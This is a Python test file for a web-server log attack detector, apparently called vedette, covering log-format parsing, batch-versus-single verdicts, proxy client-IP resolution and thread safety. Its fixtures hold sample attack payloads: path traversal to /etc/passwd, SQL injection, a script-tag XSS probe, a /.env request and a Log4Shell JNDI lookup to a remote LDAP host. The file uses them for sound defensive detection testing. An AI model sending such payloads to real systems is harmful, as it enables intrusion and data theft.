"""A line judged alone is told what it would be told among others."""

from collections.abc import Sequence
from functools import cache
from threading import Thread

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.config import Config
from vedette.detectors.signatures.hits import types_of
from vedette.detectors.signatures.scan import SignatureScanner
from vedette.engine import line_reader
from vedette.engine.choosing import enricher
from vedette.engine.line_judge import LineJudge
from vedette.engine.line_verdicts import FEW
from vedette.parsers.registry import by_name, formats
from vedette.parsers.sniff import sniff
from vedette.schema.chunk import Chunk
from vedette.schema.judged import JudgedLine

AGENT = "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0"
JSON = (
    '{"ClientHost":"192.0.2.9","StartUTC":"2026-03-02T09:10:00Z","RequestMethod":"GET","RequestPath":"/a",'
    '"DownstreamStatus":200,"Duration":1200000,"RouterName":"r"}'
)
COMBINED = f'192.0.2.7 - - [02/Mar/2026:09:10:00 +0000] "GET /shop?q=shoes HTTP/1.1" 200 1234 "-" "{AGENT}"'


def combined(target: str, agent: str = AGENT, peer: str = "192.0.2.7", status: int = 200) -> bytes:
    return (
        f'{peer} - - [02/Mar/2026:09:10:00 +0000] "GET {target} HTTP/1.1" {status} 12 "-" "{agent}"'
    ).encode()


def judge_of(scanner: SignatureScanner | None = None) -> LineJudge:
    known = formats()
    return LineJudge(
        scanner or SignatureScanner.cached(), lambda sample: sniff(sample, known), enricher(Config())
    )


@cache
def shared() -> LineJudge:
    return judge_of()


def one(judge: LineJudge, line: bytes, session: str | None = None) -> JudgedLine:
    (found,) = judge.judge([line], [session])
    return found


TARGETS = st.sampled_from(
    [
        "/",
        "/shop?q=shoes",
        "/a/../../etc/passwd",
        "/s?q=1'+union+select+password+from+users--",
        "/s?q=<script>alert(1)</script>",
        "/.env",
        "/x?u=${jndi:ldap://198.51.100.1/a}",
        "/search?q=o'reilly",
        "/p?id=1%27%20or%201=1",
    ]
)
AGENTS = st.sampled_from([AGENT, "-", "sqlmap/1.7", "${jndi:ldap://198.51.100.1/a}", "curl/8.0"])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(TARGETS, AGENTS), min_size=1, max_size=FEW + 3))
def test_a_line_alone_is_judged_as_in_a_batch(rows: list[tuple[str, str]]) -> None:
    lines = [combined(target, agent) for target, agent in rows]
    together = shared().judge(lines, [None] * len(lines))
    alone = [one(shared(), line) for line in lines]
    assert alone == together
    fresh = SignatureScanner.cached()
    requests = by_name("combined").open("x").parse(Chunk.of(b"\n".join(lines) + b"\n")).requests
    hits = fresh.judge(requests)
    for row, found in enumerate(alone):
        assert found.confidence == float(hits.confidence[row])
        assert found.is_attack == bool(hits.decisive()[row])
        assert found.score == float(hits.scores()[row])
        assert found.types == tuple(kind.value for kind in types_of(int(hits.types[row])))
        assert [m.rule for m in found.matches] == [fresh.rules[m.rule].id for m in hits.evidence(row)]


def test_what_a_line_says_is_told_in_units() -> None:
    line = '192.0.2.7 - - [02/Mar/2026:10:10:00 +0100] "POST /a%20b?x=1 HTTP/2.0" 503 1234 "https://e.example/" "x"'
    log = one(judge_of(), line.encode()).log
    assert log is not None
    assert (log.ip, log.method, log.path, log.query) == ("192.0.2.7", "POST", "/a%20b", "x=1")
    assert (log.protocol, log.status, log.bytes_out, log.duration) == ("HTTP/2.0", 503, 1234, None)
    assert (log.referer, log.user_agent, log.host) == ("https://e.example/", "x", None)
    assert (log.time, log.format) == ("2026-03-02T09:10:00.000000Z", "combined")


def test_lines_of_several_formats_are_each_read_as_what_they_are() -> None:
    lines = [COMBINED.encode(), JSON.encode(), combined("/.env"), b"not a log", JSON.encode(), b""]
    found = judge_of().judge(lines, [None] * len(lines))
    assert [None if f.log is None else f.log.format for f in found] == [
        "combined",
        "traefik-json",
        "combined",
        None,
        "traefik-json",
        None,
    ]
    assert [f.reason is None for f in found] == [True, True, True, False, True, False]
    assert found[2].types == ("sensitive_file",)
    assert found[1].log is not None
    assert found[1].log.path == "/a"


@pytest.mark.parametrize("count", [1, FEW, FEW + 1])
def test_a_line_is_called_by_its_own_format_whatever_came_before(count: int) -> None:
    common = b'192.0.2.7 - - [02/Mar/2026:09:10:00 +0000] "GET /shop HTTP/1.1" 200 12'
    judge = judge_of()
    for line, name in [(COMBINED.encode(), "combined"), (common, "common"), (COMBINED.encode(), "combined")]:
        found = judge.judge([line] * count, ["a"] * count)
        assert [said.log.format for said in found if said.log is not None] == [name] * count
    mixed = judge.judge([common, COMBINED.encode()] * count, [None] * 2 * count)
    assert [said.log.format for said in mixed if said.log is not None] == ["common", "combined"] * count
    assert [said.log.user_agent for said in mixed if said.log is not None] == [None, AGENT] * count
    fresh = judge_of()
    for line, name in [(common, "common"), (COMBINED.encode(), "combined"), (common, "common")]:
        assert [said.log.format for said in fresh.judge([line], [None]) if said.log is not None] == [name]


def test_an_odd_line_does_not_hide_the_user_agents_of_those_after_it() -> None:
    """Its agent ends in a backslash: it is no Combined line, but one of Common with something behind."""
    odd = b'192.0.2.7 - - [02/Mar/2026:09:10:00 +0000] "GET /shop HTTP/1.1" 200 12 "-" "#;\\"'
    hostile = combined("/", "${jndi:ldap://198.51.100.1/a}")
    for before in ([combined("/"), odd], [odd]):
        judge = judge_of()
        for line in before:
            one(judge, line)
        found = one(judge, hostile)
        assert "log4shell" in found.types
        assert judge.judge([hostile] * (FEW + 1), [None] * (FEW + 1)) == [found] * (FEW + 1)


def test_rubbish_costs_a_bounded_number_of_looks(monkeypatch: pytest.MonkeyPatch) -> None:
    judge, looks = judge_of(), 0
    whole = line_reader.LineReader._look

    def counted(self: line_reader.LineReader, line: bytes) -> line_reader.Reader | None:
        nonlocal looks
        looks += 1
        return whole(self, line)

    monkeypatch.setattr(line_reader.LineReader, "_look", counted)
    lines = [f"rubbish {n}".encode() for n in range(500)] + [COMBINED.encode()]
    found = judge.judge(lines, [None] * len(lines))
    assert looks <= line_reader.LOOKED_AT
    assert all(f.log is None for f in found[:-1])
    # Once its format is known, it is read among any amount of rubbish.
    one(judge, COMBINED.encode())
    assert judge.judge(lines, [None] * len(lines))[-1].log is not None


def test_a_session_is_read_by_its_own_format_first() -> None:
    judge = judge_of()
    for _ in range(3):
        first, second = one(judge, COMBINED.encode(), "a"), one(judge, JSON.encode(), "b")
        assert first.log is not None
        assert second.log is not None
        assert (first.log.format, second.log.format) == ("combined", "traefik-json")


@pytest.mark.parametrize(
    ("peer", "forwarded", "expected"),
    [
        ("192.0.2.7", None, "192.0.2.7"),
        ("10.0.0.1", "198.51.100.4, 192.0.2.7, 10.0.0.9", "192.0.2.7"),
        ("203.0.113.5", "192.0.2.7", "203.0.113.5"),
        ("10.0.0.1", "2001:db8:1:2:3:4:5:6", "2001:db8:1:2:3:4:5:6"),
        ("2001:db8::9", None, "2001:db8::9"),
        ("10.0.0.1", "unknown", "10.0.0.1"),
        ("198.51.100.4, 192.0.2.7, 10.0.0.9", None, "192.0.2.7"),
        ("192.0.2.7, 2001:db8:1:2:3:4:5:6", None, "2001:db8:1:2:3:4:5:6"),
    ],
)
@pytest.mark.parametrize("count", [1, FEW + 1])
def test_the_client_is_found_behind_trusted_proxies(
    peer: str, forwarded: str | None, expected: str, count: int
) -> None:
    judge = LineJudge(
        SignatureScanner.cached(),
        lambda sample: sniff(sample, [_with_forwarded()]),
        enricher(Config()),
    )
    line = f'{peer} [02/Mar/2026:09:10:00 +0000] "GET / HTTP/1.1" 200 "{forwarded or "-"}"'.encode()
    for found in judge.judge([line] * count, [None] * count):
        assert found.log is not None
        assert found.log.ip == expected


def _with_forwarded():  # type: ignore[no-untyped-def] # a format, whatever its class
    from vedette.parsers.log_format import log_format

    return log_format('$remote_addr [$time_local] "$request" $status "$http_x_forwarded_for"')


@settings(max_examples=100, deadline=None)
@given(st.lists(st.binary(max_size=200).map(lambda b: b.replace(b"\n", b"")), max_size=8))
def test_nothing_that_a_line_holds_raises(lines: Sequence[bytes]) -> None:
    found = shared().judge(lines, [None] * len(lines))
    assert len(found) == len(lines)


def test_several_threads_get_their_own_answers() -> None:
    judge, wrong = judge_of(), []

    def ask(number: int) -> None:
        for turn in range(30):
            path = f"/thread/{number}/{turn}"
            found = one(judge, combined(path))
            if found.log is None or found.log.path != path:
                wrong.append(path)

    threads = [Thread(target=ask, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []
